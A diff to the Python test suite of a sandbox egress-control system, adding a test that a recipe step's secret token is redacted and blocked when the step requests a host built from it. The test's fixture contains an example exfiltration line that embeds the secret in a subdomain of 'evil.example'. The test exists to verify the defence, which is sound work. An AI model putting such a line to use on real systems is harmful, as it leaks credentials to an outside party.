@@ -394,6 +394,22 @@ def test_two_runs_at_once_have_different_ways_out(tmp_path: Path, recipe: Recipe
     assert threads() == []
 
 
+def test_a_secret_that_is_asked_for_as_a_name_is_on_no_record(tmp_path: Path, recipe: Recipe) -> None:
+    """A step that has one may put it anywhere; what is kept of the request shows that it did, and not what."""
+    folder = recipe(f"{ASK}def run(context, params):\n    ask('https://' + context.secret('TOKEN') + '.evil.example/')")
+    written = (folder / "recipe.yaml").read_text()
+    declared = written.replace("steps:", "secrets: [TOKEN]\nsteps:").replace("run}", "run, secrets: [TOKEN]}")
+    (folder / "recipe.yaml").write_text(declared)
+    policy = {"name": "test", "secrets": ["*"], "network": {"allow": ["site.example:443"]}}
+
+    with open_controller(Settings(state=tmp_path / "state"), secrets={"TOKEN": "Correct-Horse-42"}) as controller:
+        result = controller.run(folder, policy=Policy.model_validate(policy))
+
+    (decision,) = result.attempts[0].network.decisions
+    assert (decision.host, decision.allowed) == ("[secret TOKEN]", False)
+    assert decision.why == "[secret TOKEN]"
+
+
 def test_without_a_network_there_is_nothing_of_it(reach: Reach) -> None:
     """No socket, no variable, no listener."""
     result = reach(
@@ -438,6 +454,6 @@ def test_a_run_without_a_network_imports_nothing_for_one(recipe: Recipe) -> None
         program = [sys.executable, "-c", PROGRAM, str(folder), *arguments]
         return set(subprocess.run(program, capture_output=True, text=True, check=True).stdout.split())
 
-    light = {f"isolation.sandbox.egress.{name}" for name in ("bounds", "folder", "inside")}
+    light = {f"isolation.sandbox.egress.{name}" for name in ("bounds", "discretion", "folder", "inside")}
     assert imported() == light
     assert {"h11", "isolation.sandbox.egress.exchange"} <= imported("with a network")
